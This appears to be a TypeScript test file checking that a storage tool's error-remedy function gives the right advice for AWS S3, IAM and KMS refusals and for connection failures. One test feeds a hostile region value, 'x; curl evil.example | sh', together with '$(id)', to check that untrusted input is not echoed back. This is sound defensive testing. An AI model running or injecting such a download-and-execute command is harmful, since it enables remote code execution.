import { describe, expect, it } from "vitest";
import { connectionProblem, connectionRemedy, refusalRemedy, type Refusal } from "./remedies.ts";

const refused: Refusal = {
  operation: "PutObject",
  action: "s3:PutObject",
  bucket: "bkt",
  key: "a",
  status: 403,
  s3Code: "AccessDenied",
  message: "Access Denied",
  region: undefined,
};

/** AWS's words. Source: IAM User Guide, "Troubleshoot access denied error messages". */
const says = (why: string, action = "s3:PutObject") => ({
  message: `User: arn:aws:iam::111122223333:user/u is not authorized to perform: ${action} on resource: "x" ${why}`,
});
const deny = (layer: string, action?: string) => says(`with an explicit deny in ${layer}`, action);
const noAllow = (layer: string, action?: string) =>
  says(`because no ${layer} allows the ${action ?? "s3:PutObject"} action`, action);

const policyCall: Partial<Refusal> = {
  operation: "PutBucketPolicy",
  action: "s3:PutBucketPolicy",
  key: undefined,
};
const read: Partial<Refusal> = { operation: "GetObject", action: "s3:GetObject" };
const head: Partial<Refusal> = { operation: "HeadObject", action: "s3:GetObject" };
const bare: Partial<Refusal> = { s3Code: undefined, message: "" };

/** Every cause with what its remedy must say, and what it must not. */
const causes: readonly [string, Partial<Refusal>, RegExp, RegExp?][] = [
  ["no rights", {}, /Grant s3:PutObject/],
  ["no rights, said so", noAllow("identity-based policy"), /Grant s3:PutObject/],
  [
    "no rights on a role",
    { ...bare, operation: "GetRole", action: "iam:GetRole", bucket: undefined, key: undefined },
    /Grant iam:GetRole to the caller\.$/,
  ],
  [
    "the action that AWS names",
    noAllow("identity-based policy", "s3:PutObjectTagging"),
    /Grant s3:PutObjectTagging/,
  ],
  [
    "bucket policy denies",
    deny("a resource-based policy"),
    /Deny statement in the bucket's policy.*root user/,
    /Grant/,
  ],
  [
    "own policy denies",
    deny("an identity-based policy"),
    /Deny .*own user or role/,
    /Grant|root user/,
  ],
  ["session policy denies", deny("a session policy"), /Deny .*session/, /Grant/],
  ["boundary denies", deny("a permissions boundary"), /Deny .*boundary/, /Grant/],
  ["organization denies", deny("a service control policy"), /Deny .*organization/, /Grant/],
  [
    "resource control policy denies",
    deny("a resource control policy"),
    /Deny .*organization/,
    /Grant/,
  ],
  ["endpoint policy denies", deny("a VPC endpoint policy"), /Deny .*VPC endpoint/, /Grant/],
  [
    "KMS key's policy denies",
    deny("a resource-based policy", "kms:Decrypt"),
    /Deny .*KMS key.*kms:Decrypt/,
    /Grant/,
  ],
  [
    "a Deny on reading",
    { ...read, ...deny("a resource-based policy", "s3:GetObject") },
    /Deny/,
    /Grant|does not exist/,
  ],
  [
    "boundary does not allow",
    noAllow("permissions boundary"),
    /allowed in the caller's permissions boundary/,
    /Grant/,
  ],
  ["organization does not allow", noAllow("service control policy"), /organization/, /Grant/],
  ["endpoint does not allow", noAllow("VPC endpoint policy"), /VPC endpoint/, /Grant/],
  [
    "KMS",
    noAllow("identity-based policy", "kms:GenerateDataKey"),
    /Grant kms:GenerateDataKey on the key.*AES256/,
  ],
  ["read without words", read, /does not exist, or.*s3:ListBucket/, /Grant/],
  ["head", { ...head, ...bare }, /does not exist, or.*s3:ListBucket/, /Grant/],
  [
    "read, not allowed",
    { ...read, ...noAllow("identity-based policy", "s3:GetObject") },
    /Grant s3:GetObject/,
  ],
  [
    "missing, and no ListBucket",
    { ...read, ...noAllow("identity-based policy", "s3:ListBucket") },
    /does not exist, or/,
  ],
  [
    "public policy",
    {
      ...policyCall,
      ...says(
        "because public policies are blocked by the BlockPublicPolicy block public access setting",
        "s3:PutBucketPolicy",
      ),
    },
    /counts as public/,
    /Grant/,
  ],
  [
    "policy of another's bucket",
    { ...policyCall, status: 405, s3Code: "MethodNotAllowed" },
    /another account/,
    /Grant/,
  ],
  [
    "no list of versions",
    { operation: "ListObjectVersions", status: 501, s3Code: "NotImplemented", message: "" },
    /lists no versions.*sms-storage ls/,
    /Grant/,
  ],
  [
    "a header for what is not there",
    { status: 501, s3Code: "NotImplemented", message: "x-amz-storage-class is not taken." },
    /Leave out what sends x-amz-storage-class/,
    /Grant/,
  ],
  ["archived", { ...read, s3Code: "InvalidObjectState" }, /Restore it/, /Grant/],
  ["account barred", { s3Code: "AccountProblem" }, /support/, /Grant/],
  ["unknown key", { s3Code: "InvalidAccessKeyId" }, /does not know this access key/, /Grant/],
  [
    "unknown key, STS",
    { s3Code: "InvalidClientTokenId" },
    /does not know this access key/,
    /Grant/,
  ],
  ["wrong secret", { s3Code: "SignatureDoesNotMatch" }, /secret access key does not fit/, /Grant/],
  [
    "wrong region, STS",
    {
      s3Code: "SignatureDoesNotMatch",
      message: "Credential should be scoped to a valid region, such as us-east-1.",
    },
    /no such region.*STORAGE_S3_REGION/,
    /secret/,
  ],
  ["clock", { s3Code: "RequestTimeTooSkewed" }, /clock/, /Grant/],
  ["expired", { status: 400, s3Code: "ExpiredToken" }, /aws sso login/],
  ["wrong token", { status: 400, s3Code: "InvalidToken" }, /one sign-in/],
  ["Qumulo's policy", { s3Code: "AccessDeniedByBucketPolicy" }, /Qumulo's bucket policy/],
  [
    "no bucket",
    { status: 404, s3Code: "NoSuchBucket" },
    /name bkt and the endpoint.*setup --bucket bkt$/,
  ],
  ["no upload", { status: 404, s3Code: "NoSuchUpload" }, /Start it again/],
  ["too many requests", { status: 503, s3Code: "SlowDown" }, /concurrency/],
  ["name taken", { status: 409, s3Code: "BucketAlreadyExists" }, /another account.*another one/],
  ["change under way", { status: 409, s3Code: "OperationAborted" }, /in a while/],
  ["KMS key gone", { status: 400, s3Code: "KMS.NotFoundException" }, /gone.*full ARN/],
  ["KMS key off", { status: 400, s3Code: "KMS.DisabledException" }, /enable-key/, /full ARN/],
  [
    "KMS key at its end",
    { status: 400, s3Code: "KMS.KMSInvalidStateException" },
    /cancel-key-deletion/,
  ],
  ["no such bucket", { status: 404, s3Code: "NoSuchBucket" }, /setup --bucket bkt/],
  [
    "no bucket can be called so",
    { status: 404, s3Code: "NoSuchBucket", bucket: "My_Bucket" },
    /My_Bucket: it holds capital letters/,
    /setup/,
  ],
  [
    "a key that only the writer has",
    {
      status: 400,
      s3Code: "InvalidRequest",
      message: "The object was stored using a form of Server Side Encryption.",
    },
    /SSE-C.*--sse-c-key/,
  ],
  [
    "a version id that is none",
    { status: 400, s3Code: "InvalidArgument", message: "Invalid version id specified" },
    /sms-storage versions/,
  ],
  [
    "principal gone",
    {
      ...policyCall,
      status: 400,
      s3Code: "MalformedPolicy",
      message: "Invalid principal in policy",
    },
    /role needs its full path/,
  ],
  [
    "policy broken",
    { ...policyCall, status: 400, s3Code: "MalformedPolicy", message: "Missing field" },
    /JSON/,
    /principal/,
  ],
  [
    "other region",
    { status: 301, s3Code: "PermanentRedirect", region: "eu-west-1" },
    /STORAGE_S3_REGION=eu-west-1/,
  ],
  ["other region, head", { ...head, ...bare, status: 400, region: "eu-west-1" }, /eu-west-1/],
  [
    "other region, not said",
    { status: 307, s3Code: "TemporaryRedirect" },
    /Check the endpoint and the region/,
  ],
  [
    "http to an https port, nginx",
    { ...bare, status: 400, message: "400 The plain HTTP request was sent to HTTPS port" },
    /Write https:/,
  ],
  [
    "http to an https port, Go",
    { ...bare, status: 400, message: "Client sent an HTTP request to an HTTPS server." },
    /Write https:/,
  ],
];

describe("refusalRemedy cures its cause", () => {
  it.each(causes)("%s", (_cause, change, wanted, saysNot = /^$/) => {
    const remedy = refusalRemedy({ ...refused, ...change });
    expect(remedy).toMatch(wanted);
    expect(remedy).not.toMatch(saysNot);
  });

  it("says nothing when it knows nothing", () => {
    for (const [status, s3Code] of [
      [409, "Conflict"],
      [403, "SomethingNew"],
      [404, "NoSuchKey"],
      [304, undefined],
    ] as const) {
      expect(refusalRemedy({ ...refused, status, s3Code })).toBeUndefined();
    }
    expect(refusalRemedy({ ...refused, region: "eu-west-1" })).not.toMatch(/eu-west-1/);
  });

  it.each(["evil.example/", "x; curl evil.example | sh", "$(id)", ""])(
    "does not repeat a region that is none: %j",
    (region) => {
      const remedy = refusalRemedy({
        ...refused,
        status: 301,
        s3Code: "PermanentRedirect",
        region,
      });
      expect(remedy).toMatch(/^The endpoint sends requests elsewhere/);
    },
  );
});

describe("connectionRemedy cures its cause", () => {
  it.each([
    ["ECONNREFUSED", /Nothing listens/],
    ["ENOTFOUND", /does not resolve/],
    ["ENETUNREACH", /network/],
    ["ETIMEDOUT", /try again/],
    ["ECONNRESET", /http or https/],
    ["DEPTH_ZERO_SELF_SIGNED_CERT", /STORAGE_S3_CA_FILE/],
    ["CERT_HAS_EXPIRED", /renewed/],
    ["ERR_TLS_CERT_ALTNAME_INVALID", /another host/],
    ["EPROTO", /Write http:/],
    ["HPE_INVALID_CONSTANT", /Write https:/],
  ])("%s", (code, wanted) => {
    const problem = connectionProblem(code);
    expect(problem).toBeDefined();
    expect(connectionRemedy(problem)).toMatch(wanted);
  });

  it("leaves other codes alone", () => {
    expect(connectionProblem("ENOENT")).toBeUndefined();
    expect(connectionProblem(undefined)).toBeUndefined();
  });
});
